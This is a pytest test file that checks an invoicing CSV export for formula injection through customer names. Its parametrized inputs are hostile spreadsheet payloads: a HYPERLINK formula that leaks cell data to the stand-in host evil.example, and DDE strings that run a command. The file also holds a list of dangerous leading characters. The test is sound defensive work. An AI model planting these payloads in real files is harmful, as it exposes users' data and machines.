"""Customer names must not turn into spreadsheet formulas (flaw: csv-injection)."""

import csv
import importlib
import io

import pytest

from invoicing import Invoice

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def export():
    return importlib.import_module("invoicing.export")


@pytest.mark.parametrize(
    "customer",
    [
        '=HYPERLINK("http://evil.example/?leak="&A1,"Invoice")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
    ],
    ids=["equals", "plus", "minus", "at", "tab"],
)
def test_formula_like_customer_name_is_neutralised(export, customer):
    inv = Invoice("INV-9", customer, "USD")
    inv.add_line("Item", "1", "10.00")
    out = io.StringIO()
    export.write_invoices_csv([inv], out)
    cell = list(csv.reader(io.StringIO(out.getvalue())))[1][1]
    assert not cell.startswith(DANGEROUS), cell
    assert customer.strip() in cell
